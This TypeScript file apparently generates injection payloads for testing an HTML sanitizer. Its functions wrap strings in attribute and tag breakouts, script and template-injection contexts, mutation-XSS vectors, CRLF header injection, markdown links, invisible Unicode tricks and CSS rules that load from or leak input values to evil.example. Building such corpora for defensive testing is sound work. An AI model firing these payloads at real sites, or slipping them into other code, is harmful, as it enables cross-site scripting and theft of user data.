/** Shapes around something hostile: what it has to break out of, or what has to be careless for it to work. */

/** Out of an attribute's value, or of what a value is put into. */
export function attributeEscapes(text: string): readonly string[] {
  return [
    `">${text}`,
    `'>${text}`,
    `\`>${text}`,
    `>${text}`,
    `" ${text}`,
    `\\">${text}`,
    `"/>${text}<x y="`,
    `&quot;>${text}`,
    `&#34;&#62;${text}`,
    `" style="position:fixed;inset:0" ${text}`,
    `" href="javascript:alert(1)">${text}`,
    `x" onfocus="__hit=1" autofocus tabindex="1">${text}`,
    `\u0000">${text}`,
    `"\n>${text}`,
    `#"><${text}`,
    `?q=1&q="><${text}`,
    `../../"><${text}`,
    `..%2f..%2f${text}`,
  ]
}

/** Out of an element, a comment, or of text that no browser reads as markup until it ends. */
export function documentEscapes(text: string): readonly string[] {
  const raw = [
    'title',
    'textarea',
    'style',
    'script',
    'noscript',
    'noembed',
    'noframes',
    'iframe',
    'xmp',
    'plaintext',
    'template',
    'svg',
    'math',
    'select',
    'details',
    'main',
  ]
  return [
    ...raw.map((name) => `</${name}>${text}`),
    `</TITLE ${text}`,
    `</title\n>${text}`,
    `-->${text}<!--`,
    `--!>${text}`,
    `<!-->${text}`,
    `<!--><!--${text}-->`,
    `]]>${text}`,
    `<![endif]-->${text}`,
    `<?xml version="1.0"?>${text}`,
    `<!DOCTYPE x [<!ENTITY y "${text}">]>&y;`,
    `<?php echo '${text}' ?>`,
    `</body></html>${text}`,
    `\r\nContent-Type: text/html\r\n\r\n${text}`,
    `\r\nSet-Cookie: newsdesk=x\r\n${text}`,
    `</description></item><item><title>${text}</title>`,
    `</mark></p></article>${text}`,
  ]
}

/** In a script, in JSON within one, or in an address that is one. */
export function codeContexts(code: string): readonly string[] {
  return [
    `';${code}//`,
    `";${code}//`,
    `\`;${code}//`,
    `\${${code}}`,
    `'-${code}-'`,
    `"-${code}-"`,
    `\\';${code}//`,
    `\\";${code}//`,
    `');${code}//`,
    `"});${code}//`,
    `"}];${code}//`,
    `*/${code}/*`,
    `\n${code}\n`,
    `\u2028${code}\u2029`,
    `</script><script>${code}</script>`,
    `<!--<script>${code}`,
    `"__proto__":{"x":"${code}"}`,
    `{"a":"</script>","b":"${code}"}`,
    `)]}',\n${code}`,
    `callback=${code}`,
    `eval('${code}')`,
    `[].constructor.constructor('${code}')()`,
    `setTimeout('${code}')`,
    `import('data:text/javascript,${code}')`,
    `new Function('${code}')()`,
    `location='javascript:${code}'`,
    `throw onerror=alert,'${code}'`,
  ]
}

/** Read as code by template languages of servers and pages. */
export function templates(code: string): readonly string[] {
  return [
    `{{${code}}}`,
    `{{{${code}}}}`,
    `{{constructor.constructor('${code}')()}}`,
    `{% ${code} %}`,
    `<%= ${code} %>`,
    `<%- ${code} %>`,
    `#{${code}}`,
    `!{${code}}`,
    `@{${code}}`,
    `[[${code}]]`,
    `{$on.constructor('${code}')()}`,
    `<div v-html="'<img src=x onerror=${code}>'">`,
    `<div x-init="${code}">`,
    `<div ng-app ng-csp><x ng-focus=${code}>`,
    `<x hx-get=//evil.example hx-trigger=load hx-on::load="${code}">`,
    `<div data-turbo-frame onload=${code} is=x>`,
    `<template shadowrootmode=open><img src=x onerror=${code}></template>`,
    `<slot onslotchange=${code}>`,
  ]
}

/** Harmless as they stand, but not after they were parsed and written once more. */
export function mutations(code: string): readonly string[] {
  const image = `<img src=x onerror=${code}>`
  return [
    `<svg></p><style><a title="</style>${image}">`,
    `<math><mtext><table><mglyph><style><!--</style>${image}`,
    `<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea>${image}">`,
    `<form><math><mtext></form><form><mglyph><style></math>${image}`,
    `<noscript><p title="</noscript>${image}">`,
    `<listing>&lt;img src=x onerror=${code}&gt;</listing>`,
    `<svg><style><![CDATA[</style>${image}]]>`,
    `<svg><title><style></title>${image}</style>`,
    `<svg><desc><noembed></desc>${image}`,
    `<svg><annotation-xml encoding="text/html"><style></svg>${image}`,
    `<template><style></template>${image}</style>`,
    `<select><template></select>${image}`,
    `<xmp><p title="</xmp>${image}">`,
    `<a/><b/title="&lt;/b>${image}">`,
    `<img alt="\`\`onerror=${code}//" src=x>`,
    `<svg><foreignObject><iframe srcdoc="${image}">`,
    `<svg><image href="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${code}'/>">`,
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${code}'/></svg>#x">`,
    `<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:${code}">x`,
    `<table><td><svg><p>${image}`,
    `<p><svg><![CDATA[><img src="]]>${image}`,
    `<b id=__hit><form id=document><input name=cookie>${image}`,
  ]
}

export function sheets(): readonly string[] {
  const rules = [
    '@import "//evil.example/x.css";',
    '@import url(//evil.example/x.css);',
    '@font-face{font-family:x;src:url(//evil.example/x.woff)}*{font-family:x}',
    'body{background:url(//evil.example/x.png)}',
    'input[value^="a"]{background:url(//evil.example/a)}',
    '*{behavior:url(//evil.example/x.htc)}',
    '*{-moz-binding:url(//evil.example/x.xml#x)}',
    'body{width:expression(alert(1))}',
    '*{color:red!important;display:none}',
    'a::after{content:url(//evil.example/x)}',
    '@namespace x url(//evil.example);',
    '*{background:\\75 rl(//evil.example/y)}',
    'html{cursor:image-set("//evil.example/z" 1x)}',
    '@keyframes x{}*{animation:x}',
  ]
  return rules.flatMap((rule) => [
    `<style>${rule}</style>`,
    `</style><style>${rule}`,
    `<svg><style>${rule}</style></svg>`,
    `<link rel=stylesheet href="data:text/css,${rule}">`,
    `<p style='${rule.replace(/^[^{]*\{|\}$/g, '')}'>x</p>`,
    `" style="${rule.replace(/^[^{]*\{|\}$/g, '')}" x="`,
    `;}${rule}`,
  ])
}

export function markdown(url: string): readonly string[] {
  return [
    `[more](<${url}>)`,
    `[more](${url} "title")`,
    `![picture](${url})`,
    `[![picture](//evil.example/x.png)](${url})`,
    `[more]: ${url}\n[more]`,
    `<${url}>`,
    `\`\`\`\n<script src="${url}"></script>\n\`\`\``,
    `# <a href="${url}">heading</a>`,
    `| <a href="${url}">cell</a> |\n|---|`,
    `> <a href="${url}">quoted</a>`,
    `[[${url}|more]]`,
    `"more":${url}`,
    `[url=${url}]more[/url]`,
    `[img]${url}" onerror="alert(1)[/img]`,
  ]
}

/** With characters that nobody sees, or that turn the order of what is seen. */
export function invisible(text: string): readonly string[] {
  const between = (mark: string) => text.replace(/[<=]/g, (sign) => `${sign}${mark}`)
  return [
    ...[
      '\u200b',
      '\u200d',
      '\u2060',
      '\ufeff',
      '\u00ad',
      '\u034f',
      '\u061c',
      '\u180e',
      '\u0085',
      '\u00a0',
      '\u3000',
      '\u0008',
      '\u001b[31m',
      '\u007f',
    ].map(between),
    `\u202e${text}\u202c`,
    `\u2066${text}\u2069`,
    `\u2028${text}\u2029`,
    `\ufeff${text}`,
    `\ud83d${text}\ude00`,
    `e\u0301\u0301${text}\u0338`,
    `${Array.from(text.slice(0, 12), (letter) => String.fromCodePoint(0xe0000 + (letter.codePointAt(0) ?? 0))).join('')}${text}`,
  ]
}
